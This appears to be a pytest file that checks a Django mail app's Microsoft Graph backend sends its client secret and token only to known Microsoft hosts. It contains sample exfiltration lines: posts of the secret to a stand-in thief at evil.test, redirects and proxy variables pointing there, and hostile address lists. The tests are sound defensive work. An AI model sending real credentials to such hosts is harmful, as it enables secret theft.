"""Graph mode's secret and token go to Microsoft's known hosts, or nowhere."""

from collections.abc import Iterator
from dataclasses import replace
from email.message import EmailMessage
from email.policy import SMTP
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import requests
import tomli_w
from django.core.management import CommandError, call_command

from notifications.backends.base import BackendError, Envelope, TimeLimits
from notifications.backends.trace import Trace
from notifications.delivery.transport import open_backend
from notifications.forms.graph import GraphForm
from notifications.models import AppToken, MailServerSettings, Mode
from notifications.oauth import providers
from notifications.oauth.app_tokens import app_token
from notifications.oauth.client_credentials import AppRegistration, fetch
from notifications.oauth.errors import OAuthFailure
from notifications.oauth.http import TokenSession
from notifications.oauth.settings import graph_registration_of
from tests.oauth.hostile import ADDRESSES, AUTHORITIES, SCHEMES, TENANTS
from tests.oauth.lab import providers_file
from tests.oauth.wilderness import GRAPH, LOGIN, TOKEN, UPLOADS, World

pytestmark = pytest.mark.django_db

SECRET = "the~secret~of~the~app"
VALUES = {"client_id": "app", "tenant_id": "contoso.com", "client_secret": SECRET, "sender": "a@contoso.com"}
# By upload session; two that are too much for one request with the mail, and small enough for one each.
LARGE, MIDDLING = (3_100_000,), (2_100_000, 2_100_000)
STATUSES = (301, 302, 303, 307, 308)
ELSEWHERE = ("https://evil.test/steal", "http://evil.test/steal", "//evil.test/steal", f"https://{LOGIN}@evil.test/")
PROXIES = ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy")


@pytest.fixture(scope="module")
def _world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with World(tmp_path_factory.mktemp("world")) as world:
        yield world


@pytest.fixture
def careless(_world: World, monkeypatch: pytest.MonkeyPatch) -> World:
    """A world in which somebody may be robbed."""
    _world.forget()
    _world.surround(monkeypatch)
    return _world


@pytest.fixture
def world(careless: World, monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
    # The tests' authority vouches for everybody here, as a public one does in the real world.
    trusting = replace(providers.CLOUDS["global"], ca_file=str(careless.ca_file))
    monkeypatch.setitem(providers.CLOUDS, "global", trusting)
    yield careless
    careless.assert_nothing_left(SECRET, TOKEN)


@pytest.fixture
def saved(world: World) -> MailServerSettings:
    return save()


def save(**columns: Any) -> MailServerSettings:
    server = MailServerSettings.load()
    named = {f"graph_{name}": value for name, value in (VALUES | columns).items()}
    server.save_version({"active_mode": Mode.GRAPH, **named}, seen=server.version)
    return server


@cache
def mail(*attached: int) -> bytes:
    """With attachments of so many bytes."""
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"], mail["Message-ID"] = "a@contoso.com", "b@x.test", "Hello", "<1@x.test>"
    mail.set_content("Hello")
    for size in attached:
        mail.add_attachment(b"x" * size, maintype="application", subtype="zip", filename="report.zip")
    return mail.as_bytes(policy=SMTP)


def send(server: MailServerSettings, *attached: int) -> None:
    backend = open_backend(server)
    try:
        backend.send(
            Envelope("a@contoso.com", ("b@x.test",), mail(*attached)), TimeLimits.without_progress(60), Trace()
        )
    finally:
        backend.close()


class TestTheWorld:
    def test_of_honest_answers_is_told_secret_and_token(self, world: World, saved: MailServerSettings) -> None:
        send(saved)
        assert (SECRET.encode() in world.heard, f"Bearer {TOKEN}".encode() in world.heard) == (True, True)

    def test_of_honest_answers_takes_a_large_attachment_without_the_token(
        self, world: World, saved: MailServerSettings
    ) -> None:
        send(saved, *LARGE)
        upload = bytes(world.heard).partition(b"PUT /upload")[2]
        assert (UPLOADS, 443) in world.looked_up
        assert b"Authorization" not in upload.partition(b"\n\n")[0]


class TestTheThief:
    """Whoever is not careful does lose what he has; else all that follows would prove nothing."""

    def test_hears_what_is_posted_to_him(self, careless: World) -> None:
        with requests.Session() as session:
            session.trust_env = False
            session.post("https://evil.test/", data={"s": SECRET}, verify=str(careless.ca_file), timeout=10)
        assert SECRET.replace("~", "%7E").encode() in careless.thief.heard or SECRET.encode() in careless.thief.heard

    def test_hears_what_follows_a_redirect(self, careless: World) -> None:
        careless.answers["POST", "/token"] = (307, {"Location": "https://evil.test/steal"}, {})
        with requests.Session() as session:
            session.trust_env = False
            session.post(f"https://{LOGIN}/token", data=SECRET, verify=str(careless.ca_file), timeout=10)
        assert SECRET.encode() in careless.thief.heard

    def test_hears_what_goes_through_his_proxy(self, careless: World, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setenv("HTTPS_PROXY", "http://evil.test:3128")
        monkeypatch.delenv("REQUESTS_CA_BUNDLE", raising=False)
        monkeypatch.delenv("NO_PROXY", raising=False)
        monkeypatch.delenv("no_proxy", raising=False)
        requests.post(f"https://{LOGIN}/token", data=SECRET, verify=str(careless.ca_file), timeout=10)
        assert SECRET.encode() in careless.thief.heard


@pytest.mark.parametrize("address", ADDRESSES, ids=ascii)
class TestAHostileAddress:
    def test_gets_nothing_from_the_guarded_session(self, world: World, address: str) -> None:
        hosts = frozenset({LOGIN})
        with TokenSession(hosts, str(world.ca_file)) as session, pytest.raises((requests.RequestException, ValueError)):
            session.post(address, data=SECRET, headers={"Authorization": f"Bearer {TOKEN}"})
        assert world.heard == b""

    def test_as_token_endpoint_gets_no_secret(self, world: World, saved: MailServerSettings, address: str) -> None:
        found = {"authorization_endpoint": f"https://{LOGIN}/a", "token_endpoint": address, "issuer": address}
        world.answers["GET", "/.well-known/openid-configuration"] = (200, {}, found)
        with pytest.raises(OAuthFailure):
            app_token(graph_registration_of(saved))
        assert SECRET.encode() not in world.heard

    def test_as_upload_session_gets_no_attachment(self, world: World, saved: MailServerSettings, address: str) -> None:
        world.answers["POST", "/createUploadSession"] = (201, {}, {"uploadUrl": address})
        with pytest.raises(BackendError):
            send(saved, *LARGE)
        assert b"PUT " not in world.heard

    def test_is_no_cloud_of_the_form(self, world: World, address: str) -> None:
        form = GraphForm({**VALUES, "cloud": address}, saved=MailServerSettings())
        assert set(form.errors) == {"cloud"}

    def test_is_no_cloud_of_a_row(self, world: World, address: str) -> None:
        with pytest.raises(OAuthFailure, match="is not known any more"):
            graph_registration_of(MailServerSettings(graph_cloud=address, graph_client_secret=SECRET))


@pytest.mark.parametrize("authority", AUTHORITIES, ids=ascii)
def test_a_bare_host_is_no_cloud_either(world: World, authority: str) -> None:
    form = GraphForm({**VALUES, "cloud": authority}, saved=MailServerSettings())
    # Blank is the default, which is a known cloud.
    assert set(form.errors) == ({"cloud"} if authority.strip() else set())


@pytest.mark.parametrize("tenant", TENANTS, ids=lambda tenant: ascii(tenant[:40]))
class TestAHostileTenant:
    def test_is_refused_by_the_form(self, world: World, tenant: str) -> None:
        form = GraphForm({**VALUES, "tenant_id": tenant}, saved=MailServerSettings())
        assert set(form.errors) == {"tenant_id"}

    def test_is_refused_by_the_configuration_file(
        self, world: World, tenant: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("GRAPH_SECRET", SECRET)
        given = {**VALUES, "tenant_id": tenant, "client_secret": {"env": "GRAPH_SECRET"}}
        (tmp_path / "mailadmin.toml").write_text(tomli_w.dumps({"mail_server": {"graph": given}}))
        with pytest.raises(CommandError) as caught:
            call_command("config", "import", str(tmp_path / "mailadmin.toml"))
        assert "tenant_id" in str(caught.value)
        assert MailServerSettings.load().version == 0

    def test_that_got_into_the_row_is_not_connected_for(self, world: World, tenant: str) -> None:
        server = MailServerSettings(
            **{f"graph_{name}": value for name, value in (VALUES | {"tenant_id": tenant}).items()}
        )
        with pytest.raises(OAuthFailure, match="Tenant ID"):
            fetch(graph_registration_of(server))
        assert world.looked_up == []


MALFORMED = [
    *(f"https://{authority}" for authority in AUTHORITIES if not authority.replace(".", "").replace(":", "").isalnum()),
    *SCHEMES,
]
# Well-formed all the same: names and addresses that an operator may have reasons for.
FORMED = {f"https://{name}" for name in AUTHORITIES if name.startswith(("[::", "[fd", "[64")) or "-" in name}


@pytest.mark.parametrize("address", sorted(set(MALFORMED) - FORMED), ids=ascii)
@pytest.mark.parametrize("key", ["login_host", "graph_host"])
def test_the_operators_file_takes_no_address_that_can_be_read_in_two_ways(
    world: World, key: str, address: str, tmp_path: Path, settings: Any
) -> None:
    table = {"login_host": f"https://{LOGIN}", "graph_host": f"https://{GRAPH}", "smtp_host": "x", "smtp_scope": "x"}
    providers_file(tmp_path, settings, microsoft={**table, key: address})
    with pytest.raises(OAuthFailure, match="MAILADMIN_PROVIDERS_FILE cannot be used"):
        graph_registration_of(MailServerSettings(graph_cloud="microsoft.lab", graph_client_secret=SECRET))


@pytest.mark.parametrize("status", STATUSES)
@pytest.mark.parametrize("target", ELSEWHERE)
class TestARedirect:
    @pytest.mark.parametrize(
        "endpoint", [("GET", "/.well-known/openid-configuration"), ("POST", "/oauth2/v2.0/token")], ids=lambda e: e[1]
    )
    def test_of_the_sign_in_service_is_not_followed(
        self, world: World, saved: MailServerSettings, endpoint: tuple[str, str], status: int, target: str
    ) -> None:
        world.answers[endpoint] = (status, {"Location": target}, {})
        with pytest.raises(OAuthFailure):
            app_token(graph_registration_of(saved))
        assert AppToken.load().access_token == ""

    @pytest.mark.parametrize(
        ("method", "path", "attached"),
        [
            ("POST", "/messages", ()),
            ("POST", "/attachments", MIDDLING),
            ("POST", "/createUploadSession", LARGE),
            ("PUT", "/upload", LARGE),
            ("POST", "/send", ()),
        ],
    )
    def test_of_graph_is_an_error(
        self, world: World, saved: MailServerSettings, method: str, path: str, attached: Any, status: int, target: str
    ) -> None:
        world.answers[method, path] = (status, {"Location": target}, {})
        with pytest.raises(BackendError):
            send(saved, *attached)
        assert path.encode() in world.heard

    def test_of_send_mail_is_an_error(self, world: World, saved: MailServerSettings, status: int, target: str) -> None:
        world.answers["POST", "/messages"] = (403, {}, {"error": {"code": "ErrorAccessDenied", "message": "no"}})
        world.answers["POST", "/sendMail"] = (status, {"Location": target}, {})
        with pytest.raises(BackendError):
            send(saved)
        assert b"/sendMail" in world.heard


class TestTheEnvironment:
    @pytest.mark.parametrize("proxy", ["http://evil.test:3128", "https://evil.test", "socks5://evil.test"])
    def test_leads_through_no_proxy(
        self, world: World, saved: MailServerSettings, monkeypatch: pytest.MonkeyPatch, proxy: str
    ) -> None:
        for name in PROXIES:
            monkeypatch.setenv(name, proxy)
        send(saved)
        assert TOKEN.encode() in world.heard

    def test_adds_no_password_of_a_netrc(
        self, world: World, saved: MailServerSettings, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
    ) -> None:
        lines = [f"machine {host} login somebody password from~netrc" for host in (LOGIN, GRAPH, UPLOADS)]
        (tmp_path / "netrc").write_text("\n".join(lines))
        monkeypatch.setenv("NETRC", str(tmp_path / "netrc"))
        send(saved, *LARGE)
        assert b"Basic" not in world.heard

    def test_chooses_no_authority(
        self, world: World, saved: MailServerSettings, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
    ) -> None:
        (tmp_path / "none.pem").write_text("")
        for name in ("REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE"):
            monkeypatch.setenv(name, str(tmp_path / "none.pem"))
        send(saved)
        assert TOKEN.encode() in world.heard


def test_without_the_tests_authority_nobody_is_told_anything(world: World) -> None:
    stranger = replace(providers.CLOUDS["global"], ca_file="")
    with pytest.raises(OAuthFailure, match="CERTIFICATE_VERIFY_FAILED"):
        fetch(AppRegistration(stranger, "app", "contoso.com", SECRET))
    assert world.heard == b""


def test_there_are_hundreds_of_them() -> None:
    assert len({*ADDRESSES, *AUTHORITIES, *TENANTS}) > 200
